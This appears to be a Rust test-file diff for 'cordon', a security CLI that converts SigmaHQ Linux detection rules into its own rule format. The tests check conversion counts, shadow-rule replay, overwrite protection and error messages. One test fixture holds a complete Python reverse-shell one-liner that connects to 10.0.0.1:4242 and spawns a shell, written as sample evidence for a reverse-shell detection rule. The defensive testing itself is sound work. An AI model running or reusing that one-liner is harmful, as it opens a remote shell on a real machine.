@@ -204,3 +204,176 @@ fn replay_marks_what_shadow_rules_would_do() {
         .collect();
     assert_eq!(shadow, [true, false, true]);
 }
+
+/// A fresh directory for one test.
+fn scratch(name: &str) -> PathBuf {
+    let dir = std::env::temp_dir().join(format!("cordon-cli-{name}-{}", std::process::id()));
+    let _ = std::fs::remove_dir_all(&dir);
+    std::fs::create_dir_all(&dir).unwrap();
+    dir
+}
+
+/// Every `SigmaHQ` Linux rule (vendored, rules/tests/sigmahq) either converts into a rule that
+/// loads, or is listed with its reason; the counts pin what the shipped pipeline covers.
+#[test]
+fn import_sigma_converts_every_sigmahq_linux_rule_or_says_why() {
+    let out = scratch("sigmahq");
+    let sigmahq = repo().join("rules/tests/sigmahq/linux");
+    let mut args = vec!["rules", "import-sigma", sigmahq.to_str().unwrap(), "--pipeline", "ocsf-linux"];
+    args.extend(["--out", out.to_str().unwrap()]);
+    args.extend(["--level", "medium=approval", "--level", "low=manual", "--level", "informational=approval"]);
+    let output = cordon(&args, &repo());
+    assert_eq!(output.status.code(), Some(1), "some rules cannot be converted: {output:?}");
+    let stdout = text(&output.stdout);
+    let files = walk_yaml(&sigmahq);
+    assert_eq!(files.len(), 210);
+    let (mut converted, mut reasons) = (0, std::collections::BTreeMap::<String, usize>::new());
+    for file in &files {
+        let line = stdout
+            .lines()
+            .find(|line| line.split_once(' ').is_some_and(|(_, rest)| rest.starts_with(&format!("{}", file.display()))))
+            .unwrap_or_else(|| panic!("{} is neither converted nor listed:\n{stdout}", file.display()));
+        if line.starts_with("converted ") {
+            converted += 1;
+        } else {
+            let reason = line.split_once(": ").expect("skipped FILE: REASON").1;
+            assert!(!reason.is_empty(), "{line}");
+            *reasons.entry(reason.split(':').next().unwrap().to_owned()).or_default() += 1;
+        }
+    }
+    assert_eq!(converted, 133, "{stdout}");
+    assert_eq!(reasons["pipeline ocsf-linux"], 53, "auditd: {reasons:?}");
+    assert_eq!(reasons["pipeline ocsf-linux maps nothing for logsource product linux"], 15, "{reasons:?}");
+    assert_eq!(
+        reasons["no mapping in pipeline ocsf-linux for logsource product linux, category network_connection"],
+        2,
+        "Initiated: {reasons:?}"
+    );
+    let summary = format!("133 converted into {}, 77 could not be converted, 0 skipped for their level\n", out.display());
+    assert!(stdout.ends_with(&summary), "{stdout}");
+    let check = cordon(&["rules", "check", out.to_str().unwrap()], &repo());
+    assert_eq!(text(&check.stdout), "ok: 133 rules (133 enabled) in 133 files, 0 tests, policy: none\n", "{check:?}");
+}
+
+fn walk_yaml(dir: &Path) -> Vec<PathBuf> {
+    let mut files = Vec::new();
+    for entry in std::fs::read_dir(dir).unwrap() {
+        let path = entry.unwrap().path();
+        if path.is_dir() {
+            files.extend(walk_yaml(&path));
+        } else if path.extension().is_some_and(|ext| ext == "yml") {
+            files.push(path);
+        }
+    }
+    files
+}
+
+/// The default levels (critical automatic 4h, high approval, the rest skipped), shadow rules, and a
+/// converted rule deciding on an OCSF Detection Finding whose evidence is the process it names.
+#[test]
+fn imported_rules_are_shadow_rules_that_decide_on_detection_evidence() {
+    let out = scratch("import-decide");
+    let sigma = repo().join("rules/tests/sigmahq/linux/process_creation/proc_creation_lnx_python_reverse_shell.yml");
+    let output =
+        cordon(&["rules", "import-sigma", sigma.to_str().unwrap(), "--pipeline", "ocsf-linux", "--out", out.to_str().unwrap()], &repo());
+    assert_eq!(output.status.code(), Some(0), "{output:?}");
+    let rule = out.join("sigma-proc-creation-lnx-python-reverse-shell.yaml");
+    assert_eq!(
+        text(&output.stdout),
+        format!(
+            "converted {} -> {} (level high: approval, shadow)\n1 converted into {}, 0 could not be converted, 0 skipped for their level\n",
+            sigma.display(),
+            rule.display(),
+            out.display()
+        )
+    );
+    let events = out.join("events.ndjson");
+    let finding = |uid: &str, cmd_line: &str| {
+        json!({"class_uid": 2004, "time": 1_700_000_000_000_u64, "severity_id": 4, "device": {"uid": "ws-1"},
+               "finding_info": {"uid": uid, "title": "suspicious process"},
+               "evidences": [{"process": {"file": {"path": "/usr/bin/python3"},
+                                          "cmd_line": cmd_line}}]})
+        .to_string()
+    };
+    std::fs::write(
+        &events,
+        [
+            finding("f-1", "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",4242));import pty;pty.spawn(\"sh\")'"),
+            finding("f-2", "python3 -m http.server"),
+        ]
+        .join("\n"),
+    )
+    .unwrap();
+    let replay = cordon(&["rules", "test", out.to_str().unwrap(), "--events", events.to_str().unwrap()], &repo());
+    assert_eq!(
+        text(&replay.stdout),
+        "[shadow] f-1 on ws-1: request_approval manual by [sigma-proc-creation-lnx-python-reverse-shell] (matched, approval_required)\n",
+        "{replay:?}"
+    );
+}
+
+/// Re-importing overwrites the import's own files; a file someone wrote by hand is never
+/// overwritten, and an id another rule holds is not taken.
+#[test]
+fn import_sigma_overwrites_only_its_own_files_and_keeps_ids_unique() {
+    let out = scratch("import-own");
+    let sigma = repo().join("rules/tests/sigmahq/linux/process_creation/proc_creation_lnx_python_reverse_shell.yml");
+    let import = || {
+        cordon(
+            &["rules", "import-sigma", sigma.to_str().unwrap(), "--pipeline", "ocsf-linux", "--out", out.to_str().unwrap(), "--live"],
+            &repo(),
+        )
+    };
+    assert_eq!(import().status.code(), Some(0));
+    let rule = out.join("sigma-proc-creation-lnx-python-reverse-shell.yaml");
+    assert!(!std::fs::read_to_string(&rule).unwrap().contains("shadow: true"), "--live writes live rules");
+    assert_eq!(import().status.code(), Some(0), "its own file is overwritten");
+
+    let hand_written = std::fs::read_to_string(&rule).unwrap().lines().skip(1).collect::<Vec<_>>().join("\n");
+    std::fs::write(&rule, &hand_written).unwrap();
+    let output = import();
+    assert_eq!(output.status.code(), Some(1));
+    assert!(text(&output.stdout).contains("exists and was not written by the import"), "{output:?}");
+    assert_eq!(std::fs::read_to_string(&rule).unwrap(), hand_written, "left as it was");
+
+    std::fs::remove_file(&rule).unwrap();
+    std::fs::write(out.join("mine.yaml"), hand_written.replace("title:", "# the same id\ntitle:")).unwrap();
+    let output = import();
+    assert_eq!(output.status.code(), Some(1));
+    assert!(
+        text(&output.stdout).contains(&format!(
+            "rule id sigma-proc-creation-lnx-python-reverse-shell is taken by {}",
+            out.join("mine.yaml").display()
+        )),
+        "{output:?}"
+    );
+    assert!(!rule.exists());
+}
+
+/// Bad command lines and pipelines are errors naming the problem (exit 2), before anything is
+/// written.
+#[test]
+fn import_sigma_refuses_unknown_pipelines_broken_pipelines_and_bad_levels() {
+    let out = scratch("import-bad");
+    let sigma = repo().join("rules/tests/sigmahq/linux/file_event");
+    let run = |extra: &[&str]| {
+        let mut args = vec!["rules", "import-sigma", sigma.to_str().unwrap(), "--out", out.to_str().unwrap()];
+        args.extend(extra);
+        cordon(&args, &repo())
+    };
+    let output = run(&["--pipeline", "ocsf-windows"]);
+    assert_eq!(output.status.code(), Some(2));
+    assert_eq!(text(&output.stderr), "error: no pipeline named `ocsf-windows` (cordon ships ocsf-linux) and no such file\n");
+    let pipeline = out.join("broken.yml");
+    std::fs::write(&pipeline, "name: broken\ntransformations:\n  - type: drop_detection_item\n").unwrap();
+    let output = run(&["--pipeline", pipeline.to_str().unwrap()]);
+    assert_eq!(output.status.code(), Some(2));
+    assert!(
+        text(&output.stderr).contains("broken.yml:3:11: transformation type `drop_detection_item` is not supported by cordon"),
+        "{output:?}"
+    );
+    let output = run(&["--pipeline", "ocsf-linux", "--level", "severe=manual"]);
+    assert_eq!(output.status.code(), Some(2));
+    assert!(text(&output.stderr).contains("`severe` is not a Sigma level"), "{output:?}");
+    assert_eq!(std::fs::read_dir(&out).unwrap().count(), 1, "nothing written but the test's pipeline");
+}
